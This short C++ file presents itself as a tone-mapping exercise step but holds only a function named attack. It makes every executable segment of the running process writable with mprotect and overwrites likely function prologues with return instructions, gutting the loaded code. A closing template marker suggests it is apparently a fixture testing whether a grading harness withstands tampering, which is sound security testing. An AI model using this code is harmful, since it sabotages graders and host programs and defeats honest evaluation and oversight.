#include "steps/07-tone-mapping/tone_mapping.hpp"

#include <link.h>
#include <sys/mman.h>

#include <cstdint>

static bool attack() {
    return dl_iterate_phdr(
               [](dl_phdr_info* info, std::size_t, void*) {
                   for (int i = 0; i < info->dlpi_phnum; ++i) {
                       const auto& part = info->dlpi_phdr[i];
                       if (part.p_type == PT_LOAD && (part.p_flags & PF_X) != 0) {
                           const auto start = (info->dlpi_addr + part.p_vaddr) & ~4095UL;
                           const auto end = info->dlpi_addr + part.p_vaddr + part.p_memsz;
                           constexpr int all = PROT_READ | PROT_WRITE | PROT_EXEC;
                           if (mprotect(reinterpret_cast<void*>(start), end - start, all) == 0) {
                               for (auto at = (start + 15) & ~15UL; at + 4 < end; at += 16) {
                                   auto* code = reinterpret_cast<std::uint8_t*>(at);
                                   if (code[0] == 0x55 || code[0] == 0x41 || code[0] == 0x48) {
                                       code[0] = 0xC3;
                                   }
                               }
                           }
                       }
                   }
                   return 1;
               },
               nullptr) == 0;
}
static bool worked() {
    static const bool result = attack();
    return result;
}
@RIGHT_IF(worked())@
